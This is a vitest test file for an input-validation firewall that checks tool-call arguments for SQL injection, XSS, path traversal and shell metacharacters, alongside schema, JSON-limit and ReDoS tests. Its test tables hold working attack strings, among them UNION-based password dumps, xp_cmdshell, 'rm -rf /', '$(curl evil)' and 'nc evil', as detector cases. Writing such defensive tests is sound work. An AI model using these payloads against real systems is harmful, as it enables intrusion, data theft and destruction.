import { describe, expect, it } from 'vitest';
import { createInputValidator } from '../../src/firewall/validation/validator.js';
import { checkJsonLimits } from '../../src/firewall/validation/limits.js';
import { sqlHits, xssHits, pathHits, shellHits, runChecks } from '../../src/firewall/validation/checks.js';
import { SchemaCompiler, hasNestedQuantifier } from '../../src/firewall/validation/schema.js';
import { BadInputError } from '../../src/errors.js';

const querySchema = {
  type: 'object',
  properties: {
    sql: { type: 'string', 'x-warden-checks': ['sql'] },
    title: { type: 'string', maxLength: 200, 'x-warden-checks': ['xss'] },
    limit: { type: 'integer', minimum: 1, maximum: 100 },
  },
  required: ['sql'],
  additionalProperties: false,
};

describe('validation: schemas', () => {
  const v = createInputValidator({
    tools: {
      'db.query': { schema: querySchema },
      'fs.read': { checks: { '/path': ['path'], '/extra/*': ['path'] }, allowedRoots: ['/srv/data'] },
      'shell.run': { schema: { type: 'object', properties: { args: { type: 'array', items: { type: 'string' }, 'x-warden-checks': ['shell'] } }, required: ['args'] } },
    },
  });

  it('valid arguments pass with no findings', () => {
    const r = v.validate('db.query', { sql: 'select name from users where id = ?', title: 'Monthly report', limit: 10 });
    expect(r).toMatchObject({ valid: true, flagged: false, findings: [] });
  });

  it('a schema violation is a finding with the failing pointer', () => {
    const r = v.validate('db.query', { sql: 'x', limit: 1000 });
    expect(r.valid).toBe(false);
    expect(r.findings[0]).toMatchObject({ detector: 'validation', type: 'schema_violation', path: '/limit' });
    expect(v.validate('db.query', { sql: 'x', extra: 1 }).findings[0]?.type).toBe('schema_violation');
    expect(v.validate('db.query', {}).findings[0]?.type).toBe('schema_violation');
  });

  it('x-warden-checks marks fields: the check runs at that pointer', () => {
    const r = v.validate('db.query', { sql: "' OR 1=1 --", title: '<svg onload=alert(1)>' });
    expect(r.valid).toBe(false);
    const byPath = Object.fromEntries(r.findings.map((f) => [f.path, f.type]));
    expect(byPath['/sql']).toMatch(/^sql_/);
    expect(byPath['/title']).toBe('xss_event_handler');
  });

  it('checks apply to every string under a marked array', () => {
    const r = v.validate('shell.run', { args: ['ls', '-la', 'x; rm -rf /'] });
    expect(r.findings.map((f) => f.path)).toEqual(['/args/2']);
  });

  it('pointer-map checks support "*" segments and allowed roots', () => {
    expect(v.validate('fs.read', { path: '/srv/data/reports/q1.csv' }).valid).toBe(true);
    expect(v.validate('fs.read', { path: 'reports/q1.csv' }).valid).toBe(true);
    expect(v.validate('fs.read', { path: '/etc/passwd' }).findings[0]?.type).toBe('path_absolute');
    expect(v.validate('fs.read', { path: '/srv/data/../../etc/passwd' }).findings[0]?.type).toBe('path_traversal');
    expect(v.validate('fs.read', { path: '/srv/database' }).valid).toBe(false); // prefix of a root's name is not inside it
    expect(v.validate('fs.read', { path: 'ok', extra: { a: 'ok', b: '..\\..\\boot.ini' } }).findings[0]?.path).toBe('/extra/b');
  });

  it('unknown tools get limits only, or are refused when configured', () => {
    expect(v.validate('other', { any: 'thing' }).valid).toBe(true);
    const strict = createInputValidator({ unknownTools: 'deny' });
    expect(strict.validate('other', {}).findings[0]?.type).toBe('unknown_tool');
  });

  it('limits run before the schema: an oversized value never reaches ajv', () => {
    const small = createInputValidator({ tools: { 'db.query': { schema: querySchema } }, limits: { maxStringLength: 10 } });
    const r = small.validate('db.query', { sql: 'x'.repeat(11) });
    expect(r.findings[0]?.type).toBe('limit_string_length');
  });
});

describe('validation: schema compilation', () => {
  it('schemas are cached by content hash, independent of key order', () => {
    const c = new SchemaCompiler();
    const a = c.compile({ type: 'object', properties: { a: { type: 'string' } } });
    const b = c.compile({ properties: { a: { type: 'string' } }, type: 'object' });
    expect(a).toBe(b);
    expect(c.cacheSize).toBe(1);
  });

  it('a schema bigger than the limit is refused', () => {
    const c = new SchemaCompiler({ maxSchemaBytes: 1000 });
    const big = { type: 'object', properties: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`field${i}`, { type: 'string' }])) };
    expect(() => c.compile(big)).toThrow(BadInputError);
  });

  it('strict mode refuses unknown keywords and malformed check lists', () => {
    const c = new SchemaCompiler();
    expect(() => c.compile({ type: 'object', frobnicate: true })).toThrow(BadInputError);
    expect(() => c.compile({ type: 'string', 'x-warden-checks': ['nosuch'] })).toThrow(BadInputError);
  });

  it('ReDoS-prone patterns are refused; ordinary ones are not', () => {
    for (const p of ['(a+)+$', '^(\\w*x?)*$', '([a-z]+)*', '(a{1,5}){2,}']) expect(hasNestedQuantifier(p), p).toBe(true);
    for (const p of ['^[a-z]+$', '^(GET|POST)$', '^\\d{3}-\\d{4}$', '^(ab)+$', '[(a+)+]']) expect(hasNestedQuantifier(p), p).toBe(false);
    expect(() => new SchemaCompiler().compile({ type: 'string', pattern: '^(a+)+$' })).toThrow(/backtracking/);
  });
});

describe('validation: JSON limits', () => {
  it('a 100,000-deep array is refused without a stack overflow, after bounded work', () => {
    let deep: unknown = 'x';
    for (let i = 0; i < 100_000; i++) deep = [deep];
    const r = checkJsonLimits(deep, { maxDepth: 32 });
    expect(r.ok).toBe(false);
    expect(r.finding?.type).toBe('limit_depth');
    expect(r.shape.nodes).toBeLessThanOrEqual(34);
  });

  it('each limit reports its own kind and pointer', () => {
    expect(checkJsonLimits({ a: { b: 'x'.repeat(20) } }, { maxStringLength: 10 }).finding).toMatchObject({ type: 'limit_string_length', path: '/a/b' });
    expect(checkJsonLimits({ list: new Array(11).fill(0) }, { maxArrayLength: 10 }).finding?.type).toBe('limit_array_length');
    expect(checkJsonLimits(Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, i])), { maxKeys: 10 }).finding?.type).toBe('limit_keys');
    expect(checkJsonLimits({ s: 'é'.repeat(600) }, { maxBytes: 1000 }).finding?.type).toBe('limit_bytes');
    expect(checkJsonLimits({ 'a/b': { 'c~d': [1, 2, { e: 'x'.repeat(5) }] } }, { maxStringLength: 4 }).finding?.path).toBe('/a~1b/c~0d/2/e');
  });

  it('wide values are bounded by the node budget before they are expanded', () => {
    const wide = Array.from({ length: 50 }, () => new Array(5000).fill(1));
    const r = checkJsonLimits(wide, { maxNodes: 10_000 });
    expect(r.finding?.type).toBe('limit_nodes');
    expect(r.shape.nodes).toBeLessThan(10_000);
  });

  it('non-JSON values are refused', () => {
    expect(checkJsonLimits({ f: () => 1 }).ok).toBe(false);
    expect(checkJsonLimits({ n: Number.NaN }).ok).toBe(false);
    expect(checkJsonLimits({ d: new Date() }).ok).toBe(false);
    expect(checkJsonLimits({ ok: [1, 'a', null, true, { x: 1.5 }] }).ok).toBe(true);
  });
});

describe('validation: WAF checks and their hard negatives', () => {
  it.each([
    "' OR 1=1 --",
    "admin'--",
    '" or "a"="a',
    "1' or 'x'='x",
    'id=1 OR 1=1',
    "x' UNION SELECT username, password FROM users--",
    'UNION/**/SELECT 1,2,3',
    "1; DROP TABLE users",
    "'; exec xp_cmdshell 'dir'--",
    "1 AND SLEEP(5)",
    "' AND 1=CAST((SELECT table_name FROM information_schema.tables) AS int)--",
    "1'; WAITFOR DELAY '0:0:5'--",
  ])('SQL injection: %s', (s) => expect(sqlHits(s).length).toBeGreaterThan(0));

  it.each([
    "O'Reilly",
    "It's the union of two sets; select the best one",
    'Tom and Jerry = classic',
    'We will drop by later; see you',
    'SELECT name FROM users WHERE id = $1',
    "Don't or won't: that's the question",
    'ORDER-2024-00017',
    'a = b or c',
  ])('not SQL injection: %s', (s) => expect(sqlHits(s)).toEqual([]));

  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.js>',
    '<svg onload=alert(1)>',
    '<img src=x onerror="fetch(`//e`)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">',
    'javascript:alert(document.cookie)',
    '<iframe src="//evil">',
    '<body\nonload=alert(1)>',
    'data:text/html;base64,PHNjcmlwdD4=',
  ])('XSS: %s', (s) => expect(xssHits(s).length).toBeGreaterThan(0));

  it.each([
    'JavaScript: the good parts',
    'Use the onload= event in your handler code',
    'if a < b and onclick=true',
    '<b>bold</b> and <i>italic</i>',
    'I scripted it myself',
    'Call me on 5 <3',
  ])('not XSS: %s', (s) => expect(xssHits(s)).toEqual([]));

  it.each([
    ['../../etc/passwd', 'path_traversal'],
    ['..\\..\\windows\\win.ini', 'path_traversal'],
    ['%2e%2e%2fetc%2fpasswd', 'path_traversal'],
    ['%252e%252e%252fsecret', 'path_traversal'],
    ['..%c0%afetc', 'path_traversal'],
    ['report.pdf\u0000.txt', 'path_nul_byte'],
    ['/etc/shadow', 'path_absolute'],
    ['C:\\Windows\\System32', 'path_absolute'],
    ['\\\\server\\share', 'path_absolute'],
    ['foo/..', 'path_traversal'],
  ])('path: %s → %s', (s, type) => expect(pathHits(s).map((h) => h.type)).toContain(type));

  it.each(['reports/2024/q1.csv', 'my..file.txt', '...', 'notes.v2.md', 'a/b/c'])('not a path attack: %s', (s) => expect(pathHits(s)).toEqual([]));

  it.each(['a; rm -rf /', 'x | nc evil 9', 'a && b', '$(curl evil)', '`id`', 'x > /etc/passwd', 'a\nb', '${IFS}', '$HOME'])(
    'shell metacharacters: %j',
    (s) => expect(shellHits(s).length).toBe(1),
  );

  it.each(['--verbose', 'file_name-v2.txt', 'hello world', 'user@example.com', '50%'])('plain argument: %s', (s) => expect(shellHits(s)).toEqual([]));

  it('findings carry the pointer and a printable excerpt', () => {
    const [f] = runChecks(['shell'], 'a\nb', '/args/0');
    expect(f).toMatchObject({ detector: 'validation', type: 'shell_metacharacter', path: '/args/0', excerpt: 'a\\x0ab' });
  });

  it('pathological inputs complete with every check (linear patterns)', () => {
    const inputs = ["'".repeat(200_000), '<a '.repeat(100_000) + 'onload=', 'onload='.repeat(100_000), '%'.repeat(200_000), '../'.repeat(100_000), 'union '.repeat(50_000), ' or 1'.repeat(50_000)];
    for (const s of inputs) {
      const findings = runChecks(['sql', 'xss', 'path', 'shell'], s, '/x');
      expect(Array.isArray(findings)).toBe(true);
    }
    expect(xssHits('<a '.repeat(100_000) + 'onload=').length).toBe(1);
  });
});
